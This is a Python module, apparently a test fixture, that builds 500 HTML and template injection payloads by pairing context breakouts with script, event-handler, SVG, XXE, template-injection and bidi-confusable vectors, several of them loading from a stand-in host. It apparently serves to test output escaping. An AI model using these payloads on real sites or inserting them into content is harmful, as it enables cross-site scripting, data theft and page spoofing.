"""Text that tries to come alive in a page: 500 payloads, a vector behind something that breaks out."""

from itertools import product

_JS = "window.pwned=1;alert(1)"
_URL = "http://evil.invalid/x"

BREAKOUTS = (
    "", '"', "'>", '">', "-->", "</title>", "</bdi></div></details></section></main>", "]]>",
    "</textarea></style></script></svg>", "\u202e",
)  # fmt: skip
VECTORS = (
    f"<script>{_JS}</script>",
    f"<ScRiPt>{_JS}</sCrIpT>",
    f"<script src={_URL}.js></script>",
    f"<img src=x onerror={_JS} data-payload>",
    f'<img src="{_URL}.png" data-payload>',
    f"<svg onload={_JS} data-payload>",
    f"<svg data-payload><script>{_JS}</script></svg>",
    f"<svg data-payload><animate onbegin={_JS} attributeName=x dur=1s>",
    f"<svg data-payload><use href='{_URL}.svg#a'/><foreignObject><img src=x onerror={_JS}></foreignObject>",
    f"<body onload={_JS} data-payload>",
    f'<iframe src="javascript:{_JS}" data-payload></iframe>',
    f'<iframe srcdoc="<script>parent.pwned=1</script>{_URL}" data-payload></iframe>',
    f'<a href="javascript:{_JS}" data-payload autofocus>read me</a>',
    f'<a href="data:text/html,<script>{_JS}</script>" data-payload>and me</a>',
    f"<math data-payload><mtext><table><mglyph><style><img src=x onerror={_JS}>",
    f"<details open ontoggle={_JS} data-payload>",
    "</details><h1 data-payload>outside</h1>",
    "</style><style>body{display:none}</style><b data-payload>",
    f"<style data-payload>@import '{_URL}.css'; *{{background:url({_URL}.png)}}</style>",
    f"<link rel=stylesheet href={_URL}.css data-payload>",
    f'<meta http-equiv=refresh content="0;url={_URL}" data-payload>',
    f"<base href={_URL}/ data-payload>",
    f"<object data={_URL} data-payload></object>",
    f"<embed src={_URL} data-payload>",
    f"<form action={_URL} data-payload><input autofocus onfocus={_JS}></form>",
    f"<input type=image src=x onerror={_JS} data-payload>",
    f"<video data-payload><source src={_URL} onerror={_JS}></video>",
    f"<audio src=x onerror={_JS} data-payload>",
    f"<marquee onstart={_JS} data-payload>",
    f"<template data-payload><script>{_JS}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={_JS} data-payload>">',
    f'<!--<img src="--><img src=x onerror={_JS} data-payload>//">',
    f"<![CDATA[<script>{_JS}</script>]]>",
    f"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM '{_URL}'>]><x data-payload>&e;</x>",
    "{{7*7}} {% include '/etc/passwd' %} {# gone #} {%raw%}",
    "${7*7} #{7*7} <%= 7*7 %> {{ ''.__class__.__mro__[1].__subclasses__() }}",
    f"&lt;script&gt;{_JS}&lt;/script&gt; &amp;lt;b&amp;gt;",
    f"&#60;script&#62;{_JS}&#60;/script&#62;&#x202e;",
    f"&#x3c;img src=x onerror={_JS} data-payload&#x3e;",
    f"\\u003cscript\\u003e{_JS}\\u003c/script\\u003e +ADw-script+AD4-{_JS}+ADw-/script+AD4-",
    f"\u202etxt.<script>{_JS}</script>\u202c\u202a\u202b\u202d",
    "\u2066\u2067\u2068left\u2069\u200e\u200f\u061cright\u2069\u2069",
    f"<scr\x00ipt>{_JS}</scr\x00ipt>\x00<img\x00src=x onerror={_JS} data-payload>",
    "\x1b[31mred\x1b[0m\x07\x08\x7f\x85\x9b",
    "\ufeffzero\u200bwidth\u2028line\u2029paragraph\ufffe\U000e0041",
    f'<div style="background:url({_URL}.png);width:expression({_JS})" data-payload>',
    '<div style="position:fixed;inset:0;z-index:9;background:red" class="skip" id="summary" data-payload>',
    "<dialog open data-payload><button popovertarget=summary>press</button></dialog>",
    "<textarea data-payload><plaintext><xmp>",
    f"<x-y onclick={_JS} tabindex=0 autofocus onfocus={_JS} contenteditable data-payload>Ｓ＜script＞",
)
NAME = "last_response_is_<img src=x onerror=alert(1) data-payload>$\\frac{x}{0}$\u202e{{7*7}}</svg>"


def payloads() -> list[str]:
    """All of them, each once."""
    found = [breakout + vector for breakout, vector in product(BREAKOUTS, VECTORS)]
    assert len(set(found)) == 500
    return found
